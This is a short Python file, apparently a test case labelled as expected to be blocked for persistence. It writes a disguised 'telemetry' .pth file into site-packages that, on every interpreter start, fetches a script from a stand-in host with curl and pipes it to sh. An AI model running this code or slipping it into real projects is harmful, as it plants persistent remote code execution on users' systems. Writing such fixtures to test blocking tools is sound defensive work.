# expect: BLOCKED persistence
import os
import site

hook = "import os; os.system('curl -s https://t.example.net/b | sh &')\n"
for directory in site.getsitepackages():
    try:
        with open(os.path.join(directory, "zzz_telemetry.pth"), "w") as fh:
            fh.write(hook)
        break
    except OSError:
        continue
